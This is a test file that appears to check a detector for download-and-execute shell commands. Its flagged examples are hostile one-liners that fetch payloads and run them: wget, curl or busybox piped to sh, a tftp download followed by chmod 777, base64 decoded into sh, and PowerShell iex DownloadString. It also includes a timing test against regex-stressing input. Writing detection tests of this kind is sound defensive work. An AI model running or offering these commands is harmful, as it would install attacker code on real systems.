import { describe, expect, it } from 'vitest';
import { downloadsAndRuns, fetches, runs } from './download-and-run.ts';

describe('downloadsAndRuns', () => {
  it.each([
    'cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh',
    'wget http://192.0.2.1/x -O - | sh',
    'curl -fsSL http://192.0.2.1/b.sh | bash -s redis',
    'cd1 -fsSL http://192.0.2.1/b.sh | sh',
    'tftp -g -r x 192.0.2.1; chmod 777 x; ./x telnet',
    '/bin/busybox wget http://192.0.2.1/bins/x.mips -O .d; /bin/busybox chmod 777 .d; ./.d',
    'cd /data/local/tmp/; busybox wget http://192.0.2.1/w.sh; sh w.sh',
    "/bin/busybox echo -en '\\x7f\\x45\\x4c\\x46\\x01' > .x; chmod +x .x; ./.x",
    'echo d2dldA==|base64 -d|sh',
    'bash <(curl -s http://192.0.2.1/i.sh)',
    "powershell iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
  ])('knows %j', (input) => expect(downloadsAndRuns(input)).toBe(true));

  it.each([
    '',
    'uname -a',
    'wget http://192.0.2.1/x.sh',
    'curl https://example.org/ -o page.html',
    'sh x.sh',
    'chmod +x setup.sh; ./setup.sh',
    'ping -c 3 192.0.2.1',
    'cat /proc/cpuinfo | grep name | wc -l',
    'echo hello | base64 -d',
  ])('passes %j', (input) => expect(downloadsAndRuns(input)).toBe(false));

  it('tells the halves apart', () => {
    expect(fetches('wget http://192.0.2.1/x')).toBe(true);
    expect(runs('wget http://192.0.2.1/x')).toBe(false);
    expect(runs('./x')).toBe(true);
    expect(runs('sh x.sh')).toBe(true);
    expect(runs('ls -la')).toBe(false);
  });

  it('takes little time on any text', () => {
    const hostile = [
      ' ',
      '\n',
      ';',
      '|',
      '/',
      'a',
      '1',
      '.',
      '-',
      'sh ',
      'chmod 7',
      'chmod 1',
      'busybox ',
      ';./',
      'u+',
      '\\x7f',
      'base64 -d ',
    ];
    const started = process.hrtime.bigint();
    for (const one of hostile)
      for (const head of ['', 'wget http://1.1.1.1/ ', 'chmod ', '; ', '| '])
        for (const tail of ['', 'x', '\n', ' ;'])
          downloadsAndRuns(head + one.repeat(8_192 / one.length) + tail);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(3_000);
  });
});
